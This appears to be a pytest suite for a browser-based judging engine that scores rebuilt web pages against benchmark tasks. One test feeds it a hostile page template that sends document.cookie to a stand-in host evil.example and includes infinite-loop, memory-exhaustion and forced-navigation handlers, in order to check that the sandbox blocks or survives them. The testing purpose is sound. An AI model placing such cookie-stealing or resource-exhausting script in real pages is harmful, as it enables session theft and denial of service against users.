"""The engine on real Chromium: the sample tasks, rebuilt pages, broken and hostile pages."""
import asyncio
import json
import shutil

import pytest

from judging.engine import Judge, JudgeOptions
from judging.engine.result import ACTION_FAILED, ACTION_NOT_FOUND, ASSERTION_FAILED, COMPLETED, CRASHED, NAVIGATED_AWAY, TIMEOUT
from judging.engine.result import TaskResult

from .conftest import BENCH, FIXTURE_SITES, SITES, make_site, without_javascript

pytestmark = pytest.mark.browser
TABS = BENCH / "sample-tabs"


def test_reference_sites_score_full_marks(judge, tmp_path):
    for task in sorted(p for p in BENCH.iterdir() if p.is_dir()):
        result = judge.run(task, SITES / task.name, tmp_path / task.name)
        assert (result.stop_reason, result.ifs) == (COMPLETED, 1.0), (task.name, result.stop_detail)
        assert result.lfs == pytest.approx(1.0, abs=1e-3) and result.final == pytest.approx(1.0, abs=1e-3), task.name
        assert all(s.assertion is None or s.assertion.result == "Yes" for s in result.steps)
        assert all((tmp_path / task.name / shot).is_file() for shot in result.screenshots)


def test_result_records_provenance_trace_and_official_eval_json(judge, tmp_path):
    result = judge.run(TABS, SITES / "sample-tabs", tmp_path)
    data = json.loads((tmp_path / "result.json").read_text())
    assert data["protocol"] == "iwr-v1" and data["viewport"] == "1280x800"
    assert data["backends"]["grounding"] == "offline" and data["hfs"] is None and "not measured" in data["hfs_note"]
    assert {"judge", "chromium", "ocr", "similarity"} <= set(data["versions"])
    first = data["steps"][0]
    assert first["element"]["name"] == "Specifications" and first["element"]["box"]["width"] > 0
    assert first["assertion"]["result"] == "Yes" and "ground" in first["timings_ms"]
    # State 0, then the states in which the two flagged steps (1 and 2) are performed.
    assert [p["state"] for p in data["points"]] == [0, 0, 1]
    assert "Specifications" in data["points"][2]["checkpoint_text"]
    official = json.loads((tmp_path / "eval.json").read_text())
    assert official["total_step"] == 4 and official["success_step"] == 4
    assert len(official["all_ocr_scores"]) == len(official["all_dino_scores"]) == 3
    assert official["all_mllm_scores"] == []
    assert [a and a["result"] for a in official["assertion_results"]] == ["Yes", "Yes", "Yes", None]
    assert official["screenshot_paths_to_eval"] == ["evalpoints/0.png", "evalpoints/0.png", "evalpoints/1.png"]
    assert official["assertion_results"][1]["prev_img_path"] == "evalpoints/1.png"
    assert result.to_dict() == data and TaskResult.from_dict(data) == result


def test_blank_page_scores_no_interaction(judge, tmp_path):
    site = make_site(tmp_path / "site", "<!doctype html><title>x</title>")
    result = judge.run(TABS, site, tmp_path / "out")
    assert (result.ifs, result.stop_reason, result.success_step) == (0.0, ACTION_NOT_FOUND, 0)
    # Action 1 is flagged and performed in state 0, so state 0 is paired with step_0 and step_1; the
    # scores average the first success_step + 1 = 1 of them, as the official aggregation cuts them.
    assert [(p.state, p.checkpoint) for p in result.points] == [(0, 0), (0, 1)]
    assert len(result.counted_points()) == 1 and result.lfs < 0.5


def test_page_without_its_javascript_loses_ifs(judge, tmp_path):
    site = without_javascript(SITES / "sample-tabs", tmp_path / "site")
    shutil.copytree(SITES / "sample-tabs" / "assets", site / "assets")
    result = judge.run(TABS, site, tmp_path / "out")
    assert result.ifs == 0.0 and result.stop_reason == ASSERTION_FAILED
    assert result.steps[0].assertion.detail["dom"] is False
    assert result.lfs == pytest.approx(1.0, abs=1e-3)  # the initial state still looks right


def test_static_image_of_the_initial_state_looks_right_but_does_nothing(judge, tmp_path):
    site = make_site(tmp_path / "site", '<body style="margin:0"><img src="shot.png"></body>')
    shutil.copy(TABS / "checkpoints" / "step_0.png", site / "shot.png")
    result = judge.run(TABS, site, tmp_path / "out")
    assert result.ifs == 0.0 and result.stop_reason == ACTION_NOT_FOUND
    assert result.lfs > 0.9


def test_rebuilt_page_with_other_markup_and_wording_passes(judge, tmp_path):
    """div "buttons" without roles, other ids, wording, fonts and layout, as models write them."""
    result = judge.run(TABS, FIXTURE_SITES / "tabs-rewrite", tmp_path)
    assert (result.stop_reason, result.ifs) == (COMPLETED, 1.0), result.stop_detail
    assert [s.element.name for s in result.steps] == ["Specs", "Price", "Extended warranty, 2 years", "Overview"]
    assert 0.3 < result.lfs < 0.95


def test_rebuilt_page_whose_controls_do_nothing_fails_its_first_assertion(judge, tmp_path):
    site = without_javascript(FIXTURE_SITES / "tabs-rewrite", tmp_path / "site")
    result = judge.run(TABS, site, tmp_path / "out")
    assert result.stop_reason == ASSERTION_FAILED and result.success_step == 0


def test_rebuilt_page_that_shows_the_wrong_panel_fails(judge, tmp_path):
    html = (FIXTURE_SITES / "tabs-rewrite" / "index.html").read_text()
    # Every tab opens the pricing panel: something changes, but not into the checkpoint's state.
    site = make_site(tmp_path / "site", html.replace("o.dataset.p).classList.toggle('on', o === t)",
                                                     "o.dataset.p).classList.toggle('on', o.dataset.p === 'c')"))
    result = judge.run(TABS, site, tmp_path / "out")
    assert result.stop_reason == ASSERTION_FAILED and result.success_step == 0


HOSTILE = """<!doctype html><body>
<button id="s">Specifications</button> <button id="p">Pricing</button>
<img src="https://tracker.example/pixel.png">
<script>
  alert("welcome");
  fetch("http://evil.example/steal?c=" + document.cookie).catch(() => {});
  document.getElementById("s").addEventListener("click", () => { %s });
  document.getElementById("p").addEventListener("click", () => { %s });
</script></body>"""


def test_hostile_pages_end_with_the_right_reason_and_leave_the_browser_usable(judge, tmp_path):
    cases = {
        "loop": (HOSTILE % ("while (true) {}", ""), TIMEOUT),
        "hog": (HOSTILE % ("const a = []; while (true) a.push(new Array(1e6).fill(1.5));", ""), CRASHED),
        "away": (HOSTILE % ("window.open('http://popup.example/'); location.href = 'https://elsewhere.example/';", ""),
                 NAVIGATED_AWAY),
    }
    for name, (html, reason) in cases.items():
        result = judge.run(TABS, make_site(tmp_path / name, html), tmp_path / f"{name}-out")
        assert result.stop_reason == reason, (name, result.stop_detail)
        assert result.dialogs == ["alert: welcome"]
        assert any("evil.example" in url for url in result.blocked_requests)
        assert any("tracker.example" in url for url in result.blocked_requests)
    assert result.popups_closed == 1 and result.success_step == 0
    good = judge.run(TABS, SITES / "sample-tabs", tmp_path / "good")
    assert good.ifs == 1.0 and good.blocked_requests == {} and good.dialogs == []


def test_same_task_and_site_judged_three_times_agree(judge, tmp_path):
    runs = [judge.run(TABS, FIXTURE_SITES / "tabs-rewrite", tmp_path / str(i)) for i in range(3)]
    assert len({r.ifs for r in runs}) == 1
    for field in ("lfs", "vfs", "final"):
        values = [getattr(r, field) for r in runs]
        assert max(values) - min(values) <= 0.01, (field, values)


def test_browser_is_started_afresh_after_its_quota_of_tasks(cache_dir, tmp_path):
    with Judge(JudgeOptions(cache_dir=cache_dir, browser_tasks=2)) as fresh:
        results = [fresh.run(TABS, SITES / "sample-tabs", tmp_path / str(i)) for i in range(2)]
        first = fresh._browser
        results.append(fresh.run(TABS, SITES / "sample-tabs", tmp_path / "2"))
        assert fresh._browser is not first and not first.is_connected()
    assert [r.ifs for r in results] == [1.0, 1.0, 1.0]


def test_task_is_replayed_on_a_new_browser_when_the_first_stops_answering(cache_dir, tmp_path, monkeypatch):
    from judging.engine import replay

    monkeypatch.setattr(replay, "BROWSER_START_LIMIT", 5)
    with Judge(JudgeOptions(cache_dir=cache_dir, task_time_limit=20)) as fresh:
        first, real = fresh._browser, replay.Judge._replay
        calls = []

        async def wedged_once(self, *args):
            calls.append(self._browser)
            if len(calls) == 1:
                await asyncio.Event().wait()      # a driver that never answers
            return await real(self, *args)

        monkeypatch.setattr(replay.Judge, "_replay", wedged_once)
        result = fresh.run(TABS, SITES / "sample-tabs", tmp_path / "out")
        assert len(calls) == 2 and calls[1] is not first and not first.is_connected()
    assert result.ifs == 1.0 and result.stop_reason == COMPLETED


LONG_PAGE = """<!doctype html><style>body { margin: 0; font: 32px sans-serif; } section { height: 700px; }</style>
<section>Aurora Coffee Roasters</section><section>How we roast: Source, Roast, Taste</section>
<section>What customers say</section><section>Footer</section>"""
INNER_SCROLL = """<!doctype html><style>
  html, body { height: 100%; margin: 0; overflow: hidden; }
  main { height: 100%; overflow-y: auto; }
  section { height: 900px; font: 32px sans-serif; }
</style><main><section>Aurora Coffee Roasters</section><section>How we roast: Source, Roast, Taste</section>
<section>What customers say</section></main>"""


def test_scroll_moves_the_window_half_a_viewport_down_whatever_the_step_says(judge, tmp_path):
    result = judge.run(BENCH / "sample-scroll", make_site(tmp_path / "site", LONG_PAGE), tmp_path / "out")
    assert [s.detail for s in result.steps[:2]] == ["scrolled the window down 400 px"] * 2


def test_scroll_of_a_page_that_scrolls_an_inner_panel_fails_as_the_official_rule_does(judge, tmp_path):
    result = judge.run(BENCH / "sample-scroll", make_site(tmp_path / "site", INNER_SCROLL), tmp_path / "out")
    assert result.stop_reason == ACTION_FAILED and result.success_step == 0
    assert "moved it 0 px" in result.steps[0].detail
